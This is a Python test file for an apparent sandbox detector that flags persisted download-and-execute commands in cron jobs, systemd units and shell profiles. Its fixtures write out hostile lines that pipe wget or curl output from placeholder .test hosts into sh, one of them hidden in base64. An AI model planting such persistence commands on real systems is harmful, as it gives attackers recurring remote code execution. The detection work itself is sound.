from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import yaml

from detect.event_builder import events_from_data
from detonate.detect.correlations.persisted_commands import PersistedCommands, location_rule
from detonate.detect.interface import RunView
from detonate.model.findings import Severity
from detonate.model.runtime import ChangeKind, ContentType, FileChange

from .stream import Stream
from .written_files import written

DETECTOR = PersistedCommands()
STAGE = "Y3VybCAtcyBodHRwOi8veC50ZXN0L3AgfCBzaA=="  # curl -s http://x.test/p | sh


def run_writing(tmp_path: Path, texts: dict[str, str]) -> Stream:
    s = Stream()
    s.exec(1, "sh", "/srv/entrypoint.sh", path="/bin/sh")
    for path in texts:
        s.write(1, path)
    s.files = written(tmp_path, texts)
    return s


def test_cron_spool_line_fetching_into_sh_is_critical_with_the_line(tmp_path: Path) -> None:
    line = "@reboot wget -q -O- http://cfg-update.test:8080/j/r.sh | sh"
    s = run_writing(tmp_path, {"/var/spool/cron/crontabs/root": line + "\n"})
    (finding,) = DETECTOR.detect(replace(s.view(), artifacts_dir=tmp_path))
    assert (finding.rule_id, finding.technique) == ("cron-job-download-shell", "T1053.003")
    assert finding.severity.value == "critical"  # a job that runs what the network serves
    evidence = finding.evidence[0]
    assert (evidence.path, evidence.excerpt) == ("/var/spool/cron/crontabs/root", line)
    assert evidence.process == ("[1] sh /srv/entrypoint.sh",)
    assert evidence.event_ids == (1,)


def test_unit_running_a_script_the_run_wrote_is_followed(tmp_path: Path) -> None:
    texts = {
        "/root/.config/systemd/user/sync.service": "[Service]\nExecStart=/var/tmp/.s/run\n",
        "/var/tmp/.s/run": f"#!/bin/sh\necho {STAGE} | base64 -d | sh\n",
    }
    s = run_writing(tmp_path, texts)
    (finding,) = DETECTOR.detect(replace(s.view(), artifacts_dir=tmp_path))
    assert (finding.rule_id, finding.technique) == ("service-unit-download-shell", "T1543.002")
    descriptions = [e.description for e in finding.evidence]
    assert any("in /var/tmp/.s/run which it runs" in d for d in descriptions)
    assert any("curl -s http://x.test/p | sh" in e.excerpt for e in finding.evidence)


def test_log_rotation_job_and_deleted_files_are_not_findings(tmp_path: Path) -> None:
    texts = {
        "/var/spool/cron/crontabs/root": "0 * * * * /usr/local/sbin/rotate-logs\n",
        "/usr/local/sbin/rotate-logs": 'for l in /var/log/app/*.log; do : > "$l"; done\n',
        "/etc/profile.d/x.sh": "curl -s http://x.test/p | sh\n",
    }
    s = run_writing(tmp_path, texts)
    s.files[2] = replace(s.files[2], change=ChangeKind.DELETED, artifact="")
    assert DETECTOR.detect(replace(s.view(), artifacts_dir=tmp_path)) == ()


def test_locations_pick_the_technique_rule() -> None:
    assert location_rule("/etc/periodic/15min/ntp-sync") == "cron-job-download-shell"
    assert location_rule("/etc/cron.d/x") == "cron-job-download-shell"
    assert location_rule("/etc/rc.local") == "boot-script-download-shell"
    assert location_rule("/home/app/.bashrc") == "shell-profile-download-shell"
    assert location_rule("/etc/app/config.yaml") == ""


class _TextView(RunView):
    """A run whose written files' text is given (no artifacts directory)."""

    texts: dict[str, str] = {}

    def file_text(self, path: str, limit: int = 256 * 1024) -> str | None:
        return self.texts.get(path)


def test_fetch_to_shell_persisted_twice_is_critical() -> None:
    # a cron.d line whose fetch is a grouped fallback `(wget … || nc …) | sh`, and a
    # periodic script: the same re-infection persisted in two places
    sample = Path(__file__).parents[2] / "rules" / "samples" / "cron-job-download-shell"
    data = yaml.safe_load((sample / "hit-grouped-fallback-in-two-places.events.yaml").read_text())
    _TextView.texts = data["files"]

    def run_with(paths: list[str]) -> RunView:
        changes = tuple(
            FileChange(p, ChangeKind.CREATED, ContentType.SCRIPT, artifact=p) for p in paths
        )
        return _TextView(events=events_from_data(data["events"]), files=changes)

    (both,) = PersistedCommands().detect(run_with(list(data["files"])))
    assert both.severity is Severity.CRITICAL and len(both.evidence) == 2
    (one,) = PersistedCommands().detect(run_with(["/etc/cron.d/0hourly-sync"]))
    assert one.severity is Severity.CRITICAL  # the grouped fallback alone: it fetches
    assert len(one.evidence) == 1


def test_decoded_stage_persisted_once_stays_high(tmp_path: Path) -> None:
    s = run_writing(tmp_path, {"/etc/profile.d/motd.sh": "echo ZWNobyBoaQ== | base64 -d | sh\n"})
    (finding,) = DETECTOR.detect(replace(s.view(), artifacts_dir=tmp_path))
    assert (finding.rule_id, finding.severity) == ("shell-profile-download-shell", Severity.HIGH)
